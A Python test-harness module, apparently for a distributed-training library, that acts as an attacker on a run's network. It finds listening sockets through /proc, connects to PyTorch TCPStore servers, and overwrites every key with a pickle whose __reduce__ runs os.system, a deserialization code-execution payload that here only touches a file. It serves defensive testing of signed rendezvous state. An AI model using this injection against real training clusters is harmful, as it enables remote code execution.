"""A stranger on the network of a run: finds its listening sockets, and writes pickles into every
store behind them."""

import base64
import os
import pickle
from collections.abc import Iterator
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

from fsdptoys.launch.rendezvous.signed_state import KEY
from tests.harness.processes import descendants

LISTENING = "0A"


class Touches:
    """Makes a file where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.path}",)


def listening_sockets(root: int) -> set[tuple[str, int]]:
    """Addresses, as the kernel writes them (``0100007F`` is 127.0.0.1), and ports of a process and
    its children."""
    inodes = set()
    for process in descendants(root):
        with suppress(OSError):  # it has ended
            for link in Path(f"/proc/{process}/fd").iterdir():
                with suppress(OSError):  # it was closed
                    inodes.add(
                        os.readlink(link).removeprefix("socket:[").removesuffix("]")
                    )
    return {
        (address, port)
        for inode, address, port in _all_listening(root)
        if inode in inodes
    }


def _all_listening(root: int) -> Iterator[tuple[str, str, int]]:
    for name in ("tcp", "tcp6", "udp", "udp6"):
        # of the network namespace that the process is in
        for line in Path(f"/proc/{root}/net/{name}").read_text().splitlines()[1:]:
            fields = line.split()
            address, port = fields[1].split(":")
            if fields[3] == LISTENING or name.startswith("udp"):
                yield fields[9], address, int(port, 16)


def attack(host: str, port: int, path: str) -> int:
    """Overwrite every key of a store with a pickle, raw and in base64; returns how many keys there
    were."""
    from torch.distributed import TCPStore

    try:
        store = TCPStore(
            host,
            port,
            is_master=False,
            wait_for_workers=False,
            timeout=timedelta(seconds=1),
        )
        # Older versions of torch do not list them.
        keys = (
            store.list_keys()
            if hasattr(store, "list_keys")
            else [KEY, "torch.rendezvous.fsdptoys"]
        )
    except Exception:
        return 0  # it is no store
    pickled = pickle.dumps(Touches(path))
    for key in keys:
        for value in (pickled, base64.b64encode(pickled)):
            store.set(key, value)  # type: ignore[arg-type]
    return len(keys)
